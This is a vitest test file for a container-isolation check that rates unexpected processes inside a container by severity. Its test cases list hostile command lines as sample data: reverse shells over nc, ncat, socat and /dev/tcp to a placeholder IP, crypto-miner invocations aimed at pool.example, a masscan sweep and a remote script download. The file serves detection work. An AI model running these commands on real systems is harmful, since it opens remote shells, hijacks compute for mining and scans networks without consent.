import { describe, expect, it } from 'vitest';
import check from '../../../checks/isolation/no-unexpected-processes.ts';
import { testCheck } from '../../test-check.ts';
import {
  type ContainerChange,
  container,
  engine,
  hostProcesses,
  known,
  leftOut,
  process,
  refused,
  stopped,
  top,
} from '../container-examples.ts';

const facts = (
  processes: ReturnType<typeof top> | typeof refused,
  host: ReturnType<typeof hostProcesses> | typeof leftOut = leftOut,
  change: ContainerChange = {},
) => ({
  self: { inspect: container(change), top: processes },
  parent: { 'docker-engine': { info: known(engine()) }, host: { processes: host } },
});

testCheck(check, [
  { name: 'a service', facts: facts(top([1000, 'node server.js'])), expect: 'pass' },
  {
    name: 'a miner',
    facts: facts(top([1000, 'node server.js'], [1000, '/tmp/.x/xmrig -o pool.example:3333'])),
    expect: {
      outcome: 'fail',
      findings: [
        {
          message: 'The container runs a miner',
          expected: 'the processes of its service',
          actual: '/tmp/.x/xmrig -o pool.example:3333',
          severity: 'high',
          location: { resource: 'a miner' },
        },
      ],
    },
  },
  {
    name: 'seen in the host’s /proc',
    facts: facts(top(), hostProcesses(process({ command: ['apt-get', 'install', '-y', 'nmap'] }))),
    expect: 'fail',
  },
  { name: 'its own command is a shell', facts: facts(top([0, 'bash'])), expect: 'pass' },
  { name: 'stopped', facts: facts(known(null), leftOut, { state: stopped }), expect: 'not-applicable' },
  { name: 'top is refused', facts: facts(refused), expect: 'unknown' },
]);

describe('a process beside the first one', () => {
  const judged = (command: string) => {
    const verdict = check.evaluate(facts(top([0, 'server'], [0, command])) as never);
    return verdict.outcome === 'fail' ? verdict.findings[0].severity : verdict.outcome;
  };

  it.each([
    ['./kdevtmpfsi', 'high'],
    ['java -cp x Miner stratum+tcp://pool.example:3333', 'high'],
    ['nc -e /bin/sh 192.0.2.1 4444', 'high'],
    ['ncat --exec /bin/bash 192.0.2.1 4444', 'high'],
    ['bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'high'],
    ['socat TCP:192.0.2.1:4444 EXEC:/bin/sh', 'high'],
    ['/usr/bin/masscan 10.0.0.0/8 -p80', 'high'],
    ['apk add curl', 'medium'],
    ['/usr/local/bin/python3 /usr/local/bin/pip install flask', 'medium'],
    ['wget -q https://example.com/x.sh', 'medium'],
    ['/bin/bash', 'low'],
    ['-sh', 'low'],
    ['bash -il', 'low'],
  ])('%s is %s', (command, severity) => {
    expect(judged(command)).toBe(severity);
  });

  it.each([
    ...[
      'sh -c exec sleep 86400',
      '/bin/sh /docker-entrypoint.sh',
      'bash /app/run.sh',
      'nginx: worker process',
    ],
    ...['curl -f http://localhost:8080/health', 'wget --spider http://127.0.0.1/', 'curl http://api:3000/'],
    ...[
      'curl https://10.0.0.4/status',
      'hydra serve all',
      'nc -z db 5432',
      '[curl] <defunct>',
      'shellcheckd',
    ],
    ...['node /app/apt-proxy.js', 'postgres: app shop 10.0.0.7(40100) idle', ''],
  ])('%s is none of those', (command) => {
    expect(judged(command)).toBe('pass');
  });
});
